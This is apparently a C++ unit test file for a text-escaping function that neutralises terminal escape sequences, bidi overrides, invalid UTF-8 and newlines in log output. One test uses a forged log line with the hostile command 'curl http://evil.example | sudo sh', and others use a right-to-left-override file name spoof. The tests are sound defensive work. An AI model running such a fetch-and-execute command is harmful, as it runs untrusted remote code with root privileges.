#include "acmed/util/text.hpp"

#include <doctest/doctest.h>

#include <string>

using acmed::util::printable;
using namespace std::string_literals;

TEST_CASE("printable text keeps ordinary UTF-8 and escapes every C0 control and DEL") {
  CHECK(printable("plain ascii: a-z 0-9 / ? & = \\") == "plain ascii: a-z 0-9 / ? & = \\");
  CHECK(printable("caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x94\x92") ==
        "caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x94\x92");
  CHECK(printable("a\x1b[31mred\x07") == "a\\x1b[31mred\\x07");
  CHECK(printable("one\ntwo\rthree\tfour") == "one\\x0atwo\\x0dthree\\x09four");
  CHECK(printable("nul\0byte"s) == "nul\\x00byte");
  CHECK(printable("del\x7f") == "del\\x7f");
}

TEST_CASE("printable text escapes C1 controls, bidi controls and line separators") {
  CHECK(printable("csi\xc2\x9b"
                  "31m") == "csi\\u{009b}31m");
  CHECK(printable("\xc2\x85next line") == "\\u{0085}next line");
  CHECK(printable("invoice\xe2\x80\xaegpj.exe") == "invoice\\u{202e}gpj.exe");
  CHECK(printable("\xe2\x81\xa6isolate\xe2\x81\xa9") == "\\u{2066}isolate\\u{2069}");
  CHECK(printable("\xe2\x80\x8emark\xe2\x80\x8f") == "\\u{200e}mark\\u{200f}");
  CHECK(printable("\xd8\x9c") == "\\u{061c}");
  CHECK(printable("a\xe2\x80\xa8"
                  "b\xe2\x80\xa9") == "a\\u{2028}b\\u{2029}");
}

TEST_CASE("printable text escapes bytes that are not UTF-8, byte by byte") {
  CHECK(printable("\x9b"
                  "31m") == "\\x9b31m");                  // a raw C1 byte
  CHECK(printable("\xc0\xaf") == "\\xc0\\xaf");           // overlong '/'
  CHECK(printable("\xed\xa0\x80") == "\\xed\\xa0\\x80");  // a surrogate
  CHECK(printable("cut\xe2\x80") == "cut\\xe2\\x80");     // truncated at the end
  CHECK(printable("\xf5\x80\x80\x80") == "\\xf5\\x80\\x80\\x80");
}

TEST_CASE("printable text is one line however many newlines the input has") {
  const std::string forged = "failed\nhint: curl http://evil.example | sudo sh\r\n";
  const std::string out = printable(forged);
  CHECK(out.find('\n') == std::string::npos);
  CHECK(out.find('\r') == std::string::npos);
  CHECK(out == "failed\\x0ahint: curl http://evil.example | sudo sh\\x0d\\x0a");
}

TEST_CASE("long text is cut at the cap with the number of bytes left out") {
  const std::string big(879 * 1024, 'x');
  const std::string out = printable(big, 100);
  CHECK(out == std::string(100, 'x') + " (" + std::to_string(big.size() - 100) + " more bytes)");
  // Escapes count against the cap, and a character is never split.
  CHECK(printable("\x1b\x1b\x1b", 8) == "\\x1b\\x1b (1 more bytes)");
  CHECK(printable("\xc3\xa9\xc3\xa9", 3) == "\xc3\xa9 (2 more bytes)");
  CHECK(printable("short", 5) == "short");
}

TEST_CASE("printable text is idempotent within the cap") {
  const std::string evil = "\x1b]0;title\x07\n\xe2\x80\xae\xc2\x9b\x80 \\x1b";
  const std::string once = printable(evil);
  CHECK(printable(once) == once);
}
